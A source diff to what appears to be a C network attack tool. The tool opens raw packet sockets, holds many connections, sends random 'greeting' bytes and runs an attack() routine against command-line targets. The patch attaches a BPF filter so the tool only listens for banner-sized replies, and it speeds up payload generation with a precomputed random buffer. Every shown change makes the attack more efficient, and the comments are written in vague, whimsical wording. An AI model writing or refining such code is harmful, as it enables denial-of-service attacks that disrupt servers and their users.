@@ -12,6 +12,7 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/filter.h>
 #include <net/ethernet.h>
 #include <netinet/ip.h>
 #include <netinet/tcp.h>
@@ -45,9 +46,21 @@ static int nrecords, next_record;
 
 /* ---- Listening ---- */
 
+/* Only packets that are as long as a greeting is are heard: the others go on as if nobody was
+ * there. */
 static void listen_in(void)
 {
+	struct sock_filter program[] = {
+		BPF_STMT(BPF_LD | BPF_H | BPF_ABS, 2), /* length, RFC 791 3.1 */
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 20 + 32 + HELO_B, 1, 0),
+		BPF_STMT(BPF_RET | BPF_K, 0),
+		BPF_STMT(BPF_RET | BPF_K, 2048),
+	};
+	struct sock_fprog filter = {sizeof(program) / sizeof(*program), program};
+
 	ear = socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK, htons(ETH_P_IP));
+	if (ear >= 0)
+		setsockopt(ear, SOL_SOCKET, SO_ATTACH_FILTER, &filter, sizeof(filter));
 }
 
 /* The proof of a greeting is none of ours, which are heard, too. */
@@ -89,10 +102,11 @@ static void hear(void)
 
 /* ---- Speaking ---- */
 
+static uint8_t rubbish[4096];
+
 static void fill(uint8_t *bytes, size_t len)
 {
-	for (size_t i = 0; i < len; i++)
-		bytes[i] = (uint8_t)random();
+	memcpy(bytes, rubbish + (size_t)random() % (sizeof(rubbish) - len), len);
 }
 
 /* What a stranger says first; how many bytes. */
@@ -207,6 +221,8 @@ int main(int argc, char **argv)
 	signal(SIGPIPE, SIG_IGN);
 	for (int i = 0; i < KEPT; i++)
 		kept[i].fd = -1;
+	for (size_t i = 0; i < sizeof(rubbish); i++)
+		rubbish[i] = (uint8_t)random();
 	listen_in();
 	attack(atol(argv[3]), atol(argv[4]), argv[5]);
 	for (int i = 0; i < KEPT; i++)
